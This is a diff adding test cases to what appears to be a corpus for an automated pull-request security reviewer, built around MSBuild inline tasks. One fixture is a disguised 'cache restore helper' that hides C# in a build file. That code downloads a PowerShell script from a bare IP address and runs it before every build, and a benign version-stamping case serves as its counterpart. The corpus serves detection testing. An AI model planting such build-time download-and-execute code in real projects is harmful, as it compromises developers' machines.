@@ -70,6 +70,18 @@ function dotnetTools(tools: Record<string, [version: string, command: string]>):
   return `${JSON.stringify({ version: 1, isRoot: true, tools: entries }, null, 2)}\n`;
 }
 
+/** Directory.Build.targets with an inline task whose C# is the file build/<name>.cs, run before every build. */
+function inlineTaskTargets(name: string): string {
+  return lines(
+    '<Project>',
+    `  <UsingTask TaskName="${name}" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">`,
+    `    <Task><Code Type="Class" Language="cs" Source="$(MSBuildThisFileDirectory)build\\${name}.cs" /></Task>`,
+    '  </UsingTask>',
+    `  <Target Name="Run${name}" BeforeTargets="Build"><${name} /></Target>`,
+    '</Project>',
+  );
+}
+
 export const ATTACK_CASES: CorpusEntry[] = [
   {
     id: 'attack-go-module-init-wget-bash',
@@ -650,5 +662,69 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: 'low', action: 'approve', noFindings: true },
+  },
+  {
+    id: 'attack-msbuild-inline-task-source-file',
+    description: 'Directory.Build.targets gains an inline task whose C# lives in build/Restore.cs; that file downloads a script from a bare IP address and runs it with PowerShell before every build.',
+    fixture: () =>
+      attackPr({
+        repo: 'Acme.Orders',
+        number: 7125,
+        title: 'build: cache restore helper',
+        author: 'newcomer',
+        files: [
+          { path: 'Directory.Build.targets', head: inlineTaskTargets('Restore') },
+          {
+            path: 'build/Restore.cs',
+            head: lines(
+              'using Microsoft.Build.Utilities;',
+              '',
+              'public class Restore : Task',
+              '{',
+              '    public override bool Execute()',
+              '    {',
+              '        var script = new System.Net.WebClient().DownloadString("http://45.77.12.9/restore.ps1");',
+              '        System.Diagnostics.Process.Start("powershell", "-NoProfile -Command " + script);',
+              '        return true;',
+              '    }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-msbuild-inline-task-generator',
+    description: "A maintainer's inline task, kept in build/Version.cs, writes the version from the git tag into a generated file.",
+    fixture: () =>
+      attackPr({
+        repo: 'Acme.Orders',
+        number: 7126,
+        title: 'build: stamp the version',
+        files: [
+          { path: 'Directory.Build.targets', head: inlineTaskTargets('Version') },
+          {
+            path: 'build/Version.cs',
+            head: lines(
+              'using Microsoft.Build.Framework;',
+              'using Microsoft.Build.Utilities;',
+              '',
+              'public class Version : Task',
+              '{',
+              '    [Required] public string Tag { get; set; } = "";',
+              '    [Required] public string Output { get; set; } = "";',
+              '',
+              '    public override bool Execute()',
+              '    {',
+              "        System.IO.File.WriteAllText(Output, $\"[assembly: System.Reflection.AssemblyInformationalVersion(\\\"{Tag.TrimStart('v')}\\\")]\");",
+              '        return true;',
+              '    }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
   },
 ];
